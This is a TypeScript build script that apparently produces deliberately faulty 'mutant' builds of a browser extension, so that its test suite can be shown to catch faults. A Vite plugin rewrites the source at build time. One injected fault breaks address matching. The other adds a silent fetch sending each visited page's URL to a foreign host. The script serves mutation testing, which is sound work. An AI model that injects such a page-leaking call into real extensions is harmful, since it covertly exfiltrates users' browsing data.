/**
 * Builds the package with two faults in its source, for the test that shows that other tests can fail: matching finds nothing,
 * and every look-up sends its page to a foreign host. `build-packages.ts` runs it.
 */
import type { Plugin } from 'vite'
import { BROWSERS, buildFor } from '../../../scripts/extension.ts'
import { LEAK, mutantOf } from './packages.ts'

/** Replaces `from` by `to` in the source file whose path ends with `file`. */
type Fault = { readonly file: string; readonly from: string; readonly to: string }

const FAULTS: readonly Fault[] = [
  {
    file: '/story-reader.ts',
    from: '  addresses.flatMap(',
    to: '  addresses.slice(addresses.length).flatMap(',
  },
  {
    file: '/background/count.ts',
    from: 'await setBadge(tabId, outlets)',
    to: `await setBadge(tabId, outlets)\n    await fetch('${LEAK}?page=' + encodeURIComponent(report.url), { mode: 'no-cors' }).catch(() => {})`,
  },
]

const left = new Set(FAULTS)

const faulty: Plugin = {
  name: 'faulty',
  enforce: 'pre',
  transform(code, id) {
    const fault = FAULTS.find(({ file }) => id.split('?')[0]?.replaceAll('\\', '/').endsWith(file))
    if (fault === undefined) return null
    if (!code.includes(fault.from)) this.error(`${fault.file} has no "${fault.from}"`)
    left.delete(fault)
    return code.replace(fault.from, fault.to)
  },
}

for (const browser of BROWSERS)
  await buildFor(browser, {
    plugins: [faulty],
    build: { outDir: mutantOf(browser === 'chrome' ? 'chromium' : 'firefox') },
  })
if (left.size > 0) throw new Error(`not built: ${[...left].map(({ file }) => file).join(', ')}`)
